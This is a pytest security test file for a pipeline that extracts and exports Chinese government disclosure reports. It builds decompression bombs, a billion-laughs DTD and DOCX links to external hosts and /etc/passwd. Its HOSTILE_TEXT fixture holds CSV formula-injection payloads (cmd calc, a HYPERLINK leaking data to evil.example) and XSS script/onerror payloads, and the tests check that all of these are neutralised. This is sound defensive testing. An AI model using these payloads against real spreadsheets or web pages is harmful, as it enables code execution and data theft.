"""Hostile documents, made here as small files that expand: each ends as a ReadError, or reads without the
trap firing; document text that a spreadsheet would run as a formula is exported as text, and text that
a browser would run as markup or script stays text in the HTML report."""
from __future__ import annotations

import csv
import json
import os
import struct
import zipfile
import zlib
from pathlib import Path

import openpyxl
import pytest
from PIL import Image

from bad_inputs.make_cases import minimal_docx, pdf, zip_bytes
from extract.document import ReadError
from extract.readers import ocr, read_document
from test_untrusted import loopback  # noqa: F401  (a fixture: a recording HTTP server on 127.0.0.1)

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TITLE = "测试县2022年政府信息公开工作年度报告"


def test_a_pdf_of_5000_pages_is_refused_before_reading():
    data = pdf(b"BT /F1 11 Tf 50 800 Td (page) Tj ET", pages=5000)
    assert len(data) < 1_000_000
    with pytest.raises(ReadError, match=r"PDF with 5000 pages: over the 500-page limit \(XXGK_MAX_PDF_PAGES\)"):
        read_document(data, "x.pdf")


def test_a_page_rendering_to_gigapixels_is_refused_on_the_ocr_path():
    """A scan-like page (no text layer) 60,000 points square: 14 Gpx at the OCR's 144 dpi."""
    if not ocr.available():
        assert os.environ.get("CI") != "true", "the OCR extra is required in CI"
        pytest.skip("OCR extra not installed")
    data = pdf(b"q 1 0 0 1 0 0 cm Q").replace(b"/MediaBox [0 0 595 842]", b"/MediaBox [0 0 60000 60000]")
    with pytest.raises(ReadError, match=r"decompression bomb: page 1 would render to 120000×120000 px"):
        read_document(data, "x.pdf")


def test_a_pdf_picture_decoding_to_gigapixels_is_refused_on_the_ocr_path():
    """An ordinary page showing one picture 30,000 px square (900 Mpx, 1 bit each, 100 KB deflated): pdfium
    would decode it whole to draw it small; its declared size refuses it before any rendering."""
    if not ocr.available():
        assert os.environ.get("CI") != "true", "the OCR extra is required in CI"
        pytest.skip("OCR extra not installed")
    side, z = 30_000, zlib.compressobj(9)
    stream = b"".join(z.compress(bytes(side // 8 * 1000)) for _ in range(side // 1000)) + z.flush()
    image = (b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 1 "
             b"/Filter /FlateDecode /Length %d >>\nstream\n" % (side, side, len(stream)) + stream + b"\nendstream")
    data = pdf(b"q 495 0 0 742 50 50 cm /Im1 Do Q", b"<< /XObject << /Im1 5 0 R >> >>", [image])
    assert len(data) < 200_000
    with pytest.raises(ReadError, match=r"decompression bomb: a picture on page 1 would render to 30000×30000 px"):
        read_document(data, "x.pdf")


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that announces width × height pixels of 1-bit gray and carries almost no data."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")


def docx_parts(body: str, rels: str = "", extra: dict[str, bytes] | None = None) -> bytes:
    parts = minimal_docx(f'<?xml version="1.0" encoding="UTF-8"?><w:document {W}><w:body>{body}</w:body></w:document>')
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b'<Default Extension="xml"', b'<Default Extension="png" ContentType="image/png"/><Default Extension="xml"')
    if rels:
        parts["word/_rels/document.xml.rels"] = (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            f'package/2006/relationships">{rels}</Relationships>').encode()
    return zip_bytes({**parts, **(extra or {})})


def test_a_docx_picture_of_gigapixels_is_never_decoded():
    bomb = png_header_only(100_000, 100_000)
    with pytest.raises(Image.DecompressionBombError):  # what Pillow says of it: a bomb
        Image.open(__import__("io").BytesIO(bomb))
    data = docx_parts(f"<w:p><w:r><w:t>{TITLE}</w:t></w:r></w:p>",
                      f'<Relationship Id="rId5" Type="{R}/image" Target="media/image1.png"/>',
                      {"word/media/image1.png": bomb})
    assert read_document(data, "x.docx").text() == TITLE  # pictures are not read: the text is


def test_a_docx_with_a_billion_laughs_dtd_is_refused():
    lol = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    xml = (f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE w:document [<!ENTITY l0 "lol">{lol}]>'
           f"<w:document {W}><w:body><w:p><w:r><w:t>{TITLE}&l9;</w:t></w:r></w:p></w:body></w:document>")
    with pytest.raises(ReadError, match=r"XML part 'word/document.xml' declares a DTD \(entities\): refused"):
        read_document(zip_bytes(minimal_docx(xml)), "x.docx")


def test_a_docx_with_external_relationships_fetches_nothing(loopback):  # noqa: F811
    url, hits = loopback
    rels = (f'<Relationship Id="rId7" Type="{R}/image" Target="{url}/linked.png" TargetMode="External"/>'
            f'<Relationship Id="rId8" Type="{R}/hyperlink" Target="{url}/link" TargetMode="External"/>'
            f'<Relationship Id="rId9" Type="{R}/attachedTemplate" Target="{url}/evil.dotm" TargetMode="External"/>'
            f'<Relationship Id="rId10" Type="{R}/oleObject" Target="file:///etc/passwd" TargetMode="External"/>')
    body = (f"<w:p><w:r><w:t>{TITLE}</w:t></w:r></w:p>"
            '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
            'wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
            '<a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
            f'<pic:blipFill><a:blip xmlns:r="{R}" r:link="rId7"/></pic:blipFill></pic:pic></a:graphicData>'
            "</a:graphic></wp:inline></w:drawing></w:r></w:p>")
    assert read_document(docx_parts(body, rels), "x.docx").text() == TITLE
    assert hits == []


HOSTILE_TEXT = {
    "agency": '=HYPERLINK("http://evil.example/?leak="&A1,"平潭")</script><script>console.log("PWNED1")</script>'
              '<img src=x onerror=\'console.log("PWNED2")\'><!--',
    "raw": "+1+cmd|' /C calc'!A0",
    "warning": "@SUM(1+1)*cmd|' /C calc'!A0",
    "source": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
}


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> Path:
    """A warehouse holding a report whose texts are formulas (as a document can print them)."""
    from gold_reports import gold_report
    from load import warehouse
    from load.rows import report_rows

    report = gold_report("2023_pingtan_gwh.html")
    report.agency = HOSTILE_TEXT["agency"]
    report.source = HOSTILE_TEXT["source"]
    report.warnings = [HOSTILE_TEXT["warning"], HOSTILE_TEXT["tab"]]
    key = next(k for k, c in report.cells.items() if c.value is not None)
    report.cells[key] = report.cells[key]._replace(raw=HOSTILE_TEXT["raw"])
    db = tmp_path_factory.mktemp("inject") / "wh.duckdb"
    with warehouse.writing(db) as con:
        warehouse.load(con, [report_rows(report, "test")])
    return db


def test_csv_export_writes_formula_text_as_text(hostile_db, tmp_path):
    from load.publish.export import export

    export(hostile_db, tmp_path, "csv")
    cells = [c for f in tmp_path.glob("*.csv") for row in csv.reader(f.open(encoding="utf-8")) for c in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    for text in (HOSTILE_TEXT["agency"], HOSTILE_TEXT["raw"], HOSTILE_TEXT["source"]):
        assert "'" + text in cells
    assert any(c.startswith("['@SUM(1+1)") for c in cells)  # a list cell starts with '[': not a formula
    facts = list(csv.DictReader((tmp_path / "facts.csv").open(encoding="utf-8")))
    assert all(float(r["value"]) >= 0 for r in facts if r["value"])  # numbers stay numbers: only text is guarded


def test_xlsx_export_has_no_formula_cell(hostile_db, tmp_path):
    from load.publish.export import export

    (path,) = export(hostile_db, tmp_path, "xlsx")
    with zipfile.ZipFile(path) as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in s or b"<f " in s for s in sheets)  # no formula element anywhere
    wb = openpyxl.load_workbook(path)
    values = {c.value: c.data_type for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert values[HOSTILE_TEXT["agency"]] == "s"  # the text as printed, a string cell


def test_report_keeps_document_text_as_text_in_tables_and_chart_json(hostile_db, tmp_path):
    """The agency name closes a <script> and opens one of its own, then an <img onerror>: in the page it is
    text in the tables, the agency menu and the charts' JSON, and no element of its making exists."""
    from lxml import html as lhtml

    from load.publish.report import write_report

    page = write_report(hostile_db, tmp_path / "report.html")
    root = lhtml.fromstring(page.read_text(encoding="utf-8"))
    agency = HOSTILE_TEXT["agency"]
    assert root.findall(".//img") == [] and root.xpath("//comment()") == []
    scripts = [s.text or "" for s in root.iter("script")]
    assert len(scripts) == 6  # plotly's config and library, three charts, the page's own: none of the agency's
    assert not any(s.startswith("console.log") for s in scripts)
    assert [o.text for o in root.iter("option") if "PWNED" in (o.text or "")] == [agency]
    assert agency in [td.text_content() for td in root.iter("td")]
    trend = next(s for s in scripts if s.startswith("const TREND="))
    assert "</" not in trend and "<!--" not in trend
    assert agency in json.JSONDecoder().raw_decode(trend.removeprefix("const TREND="))[0]
    chart = next(s for s in scripts if "PWNED" in s and "Plotly.newPlot" in s)
    assert "<" not in chart.split("Plotly.newPlot", 1)[1]  # plotly's own JSON escapes it too


def test_report_with_a_hostile_agency_runs_no_script_of_it_in_chromium(hostile_db, tmp_path):
    from load.publish.report import write_report
    from test_export_report import chromium, require_chromium

    require_chromium()
    page = write_report(hostile_db, tmp_path / "report.html")
    dom, console = chromium(page, tmp_path, "--dump-dom")
    assert not any("PWNED" in line for line in console), console
    assert console == []  # the page's own scripts ran to the end: TREND parsed, the agency panel drawn
    assert 'id="agencychart"' in dom and "main-svg" in dom.split('id="agencychart"', 1)[1][:5000]
